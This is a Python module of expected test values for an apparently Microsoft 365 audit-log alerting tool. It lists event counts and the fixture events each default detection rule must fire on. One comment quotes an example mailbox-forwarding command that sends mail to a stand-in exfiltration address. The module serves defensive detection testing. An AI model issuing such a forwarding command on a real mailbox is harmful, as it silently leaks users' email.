"""What the shared fixtures must come out as: how many events are stored, how many inputs are
dead-lettered, and which events the shipped alert rules fire on. One place, so that adding a sample or a
source changes one number, not one per test."""

from __future__ import annotations

# Unique records per source (the directory pages repeat two records: 62 collected, 60 unique). The
# Entra sign-in pages come from the bundled samples (see `fixtures_dir`).
UNIQUE_RECORDS = {"directory": 60, "intune": 30, "signins": 31, "unified": 57}
COLLECTED_RECORDS = {"directory": 62, "intune": 30, "signins": 31, "unified": 57}
STORED_FIXTURE_EVENTS = sum(UNIQUE_RECORDS.values())  # 178
# The admin audit events `fixture_events` maps (every source but the sign-ins).
ADMIN_FIXTURE_EVENTS = STORED_FIXTURE_EVENTS - UNIQUE_RECORDS["signins"]  # 147
# malformed_inputs.json: every entry is dead-lettered, one by the collector (huge_field), the rest
# by the normalizer.
MALFORMED_INPUTS = 8

# dedupe_key of every fixture event each default rule must fire on (and no other event).
DEFAULT_RULE_HITS: dict[str, list[str]] = {
    "default-mailbox-forwarding-external": [
        # Set-Mailbox -ForwardingSmtpAddress smtp:exfil@evil.example; the New-InboxRule records
        # carry no forwarding parameter and must not fire.
        "unified:d8d4250d-89df-5e79-bf7b-6c6c3c2496eb",
        "unified:1e84fb36-3b9e-dacb-4b2e-7245e07b59d8",
        "unified:406c6132-6564-d134-1097-0046538ae1c1",
        "unified:570b534d-5e63-af16-0996-9e7c37b79c48",
    ],
    "default-privileged-role-member-added": [
        # Successful "Add member to role" (Graph) and "Add member to role." (Management API);
        # the failed attempts (…_0009, 9db59658…) must not fire.
        "directory:Directory_0F17A300_0007",
        "directory:Directory_535B6A43_0028",
        "directory:Directory_F637A468_0042",
        "directory:Directory_816B2332_0046",
        "directory:Directory_F21201E4_0054",
        "unified:43abd7ad-c8ed-3213-cac8-a61c2b32ada9",
        "unified:93cde609-5e73-252b-fd91-4b0e60307b75",
    ],
    "default-service-principal-credentials-added": [
        "directory:Directory_930D6EAF_0003",
        "directory:Directory_774B15D7_0014",
        "directory:Directory_BE4C5CE6_0021",
        "directory:Directory_F3D74F82_0031",
    ],
    "default-conditional-access-policy-changed": [
        "directory:Directory_8CA81811_0008",
        "directory:Directory_804C25D6_0024",  # published twice (page overlap): one alert
        "directory:Directory_9556585E_0025",
        "directory:Directory_16E6FEC3_0035",
        "directory:Directory_1C0502C6_0037",
        "directory:Directory_D6CFF718_0057",
    ],
    "default-site-collection-admin-added": [
        # 1032888d… is a failed SiteCollectionAdminAdded: no alert.
        "unified:a4fc8621-5d20-c6a6-cd5e-4aa0ff2282e6",
        "unified:2bf39775-8124-7dd4-bcbc-58a35eef9b8b",
        "unified:2907db86-e421-9307-d316-15e5b02ef5f7",
    ],
    "default-guest-added-to-team": [
        # MemberAdded of guestN@fabrikam.com by a contoso.com admin.
        "unified:8cd03260-74aa-f340-997a-20be63cc537b",
        "unified:6e3bbc97-5bcb-9370-20e2-7c17112ed1df",
        "unified:1c0df645-d0a3-2611-b14a-ed54bb69e1f0",
    ],
    # The fixtures delete users one at a time, days apart: below the threshold.
    "default-mass-user-deletion": [],
    # The sign-in rules fire on no admin audit event (their sample sign-ins: SIGNIN_RULE_ALERTS).
    "default-signin-failures-then-success": [],
    "default-signin-new-country": [],
    "default-signin-legacy-authentication": [],
    "default-signin-risky": [],
}
DEFAULT_RULE_ALERTS = sum(len(keys) for keys in DEFAULT_RULE_HITS.values())

# Alerts the sample sign-ins raise (tests/alerter/test_signin_rules.py pins their events).
SIGNIN_RULE_ALERTS = {
    "Many failed sign-ins, then a success": 1,
    "Sign-in from a new country": 2,
    "Legacy authentication sign-in": 1,
    "Risky sign-in": 1,
}

# `aoc demo` also loads AOC's own Sigma rules (services/alerter/sigma_rules): every native alert but
# the new-country ones (no first-seen in Sigma) is raised a second time by a Sigma twin
# (tests/alerter/test_sigma_rules.py pins that they fire on the same events).
NATIVE_DEMO_ALERTS = DEFAULT_RULE_ALERTS + sum(SIGNIN_RULE_ALERTS.values())
SIGMA_DEMO_ALERTS = NATIVE_DEMO_ALERTS - SIGNIN_RULE_ALERTS["Sign-in from a new country"]
